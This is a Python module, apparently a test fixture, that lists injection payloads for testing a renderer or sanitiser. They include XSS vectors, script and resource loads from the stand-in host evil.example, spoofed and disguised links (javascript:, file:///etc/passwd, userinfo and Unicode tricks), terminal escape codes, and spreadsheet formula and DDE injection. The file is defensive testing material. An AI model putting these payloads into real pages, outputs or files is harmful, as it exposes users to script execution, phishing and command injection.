"""Texts that want a browser, a terminal or a spreadsheet to do something: call out, run a script, hide what they are.

Each may stand wherever people, documents or models put text. EVIL never answers; no page may ask it.
"""

from __future__ import annotations

EVIL = "evil.example"

_CALLS_OUT = f"""
<script>window.pwned=1</script>
<script src=//{EVIL}/a.js></script>
</textarea><script>window.pwned=1</script>
<img src=//{EVIL}/a.png>
<img src=x onerror=window.pwned=1>
<IMG SRC="jav&#x09;ascript:window.pwned=1">
<image href=//{EVIL}/a.png>
<svg onload=window.pwned=1>
<svg><script>window.pwned=1</script></svg>
<svg><use href="//{EVIL}/a.svg#x"></use></svg>
<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>
<math><mtext><img src=x onerror=window.pwned=1></mtext></math>
<iframe src=//{EVIL}/></iframe>
<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>
<object data=//{EVIL}/a.swf></object>
<embed src=//{EVIL}/a.swf>
<video src=//{EVIL}/a.mp4 autoplay onerror=window.pwned=1></video>
<audio src=//{EVIL}/a.mp3 autoplay></audio>
<link rel=stylesheet href=//{EVIL}/a.css>
<link rel=prefetch href=//{EVIL}/a>
<style>@import url(//{EVIL}/a.css);</style>
<style>*{{background:url(//{EVIL}/a.png)}}</style>
<div style="background:url(//{EVIL}/a.png)">x</div>
<base href=//{EVIL}/>
<meta http-equiv=refresh content="0;url=//{EVIL}/">
<form action=//{EVIL}/><input name=q><button>Go</button></form>
<details open ontoggle=window.pwned=1>x</details>
<body onload=window.pwned=1>
<input autofocus onfocus=window.pwned=1>
<template><img src=//{EVIL}/t.png></template>
<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">
<!--><img src=x onerror=window.pwned=1>-->
<![CDATA[<img src=x onerror=window.pwned=1>]]>
"><img src=x onerror=window.pwned=1>
'><svg/onload=window.pwned=1>
`${{window.pwned=1}}`
javascript:window.pwned=1
{{{{constructor.constructor('window.pwned=1')()}}}}
![a](//{EVIL}/a.png)
![a](https://{EVIL}/a.png "t")
![a][e]
[e]: https://{EVIL}/a.png
[![a](https://{EVIL}/a.png)](https://{EVIL}/)
!\\[a](https://{EVIL}/a.png)
"""
_HIDES_LINKS = f"""
[Open the policy](https://{EVIL}/)
[Open the policy](//{EVIL}/)
[Open the policy]( <https://{EVIL}/> )
[Open the policy](https://{EVIL}/(a) "t")
[Open the policy](javascript:window.pwned=1)
[Open the policy](data:text/html,<script>window.pwned=1</script>)
[Open the policy](vbscript:window.pwned=1)
[Open the policy](file:///etc/passwd)
[Open the policy](mailto:a@{EVIL}?body=x)
[Open the policy](java&#115;cript:window.pwned=1)
[Open **the** [policy](https://{EVIL}/)](https://{EVIL}/)
[Open\\] the policy](https://{EVIL}/)
[Open the policy][e]
[Open the policy]: https://{EVIL}/
[^1]: https://{EVIL}/
[1](https://{EVIL}/)
[[1]](https://{EVIL}/)
<https://{EVIL}/>
<javascript:window.pwned=1>
<a href=https://{EVIL}/>Open the policy</a>
https://{EVIL}/?q=1
www.{EVIL}
http://login.company.com@{EVIL}/
https://login.company.com:secret@{EVIL}/a
https://company.com\u2024{EVIL}/
https://{EVIL}/\u202egpj.ecin
https://\u200b{EVIL}/
//{EVIL}/a
a@{EVIL}
mailto:a@{EVIL}
xmpp:a@{EVIL}
"""
_DRESSES_UP = """
:material/verified: Checked by the company
:red[x] :blue-background[x] :red-badge[Verified] :small[x]
:orange-badge[:material/help: not found in the sources]
:smile: :streamlit: :arrow_right:
$\\href{https://evil.example/}{Open the policy}$
$$\\includegraphics{https://evil.example/a.png}$$
$\\text{x}\\color{red}$
&lt;img src=x onerror=window.pwned=1&gt; &#60;script&#62;
&#106;avascript&colon;window.pwned=1
# Answer
> quoted
| a | b |
- [ ] a task
```html
~~~
***
\u202edetrever\u202c \u2066isolated\u2069
pay\u200bpal \ufeff\u00ad
\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;https://evil.example/\x1b\\policy\x1b]8;;\x1b\\ \x9b2J
=HYPERLINK("https://evil.example/","Open the policy")
+1+cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
"""

PAYLOADS = [line for part in (_CALLS_OUT, _HIDES_LINKS, _DRESSES_UP) for line in part.strip("\n").split("\n")]
"""97 of them."""
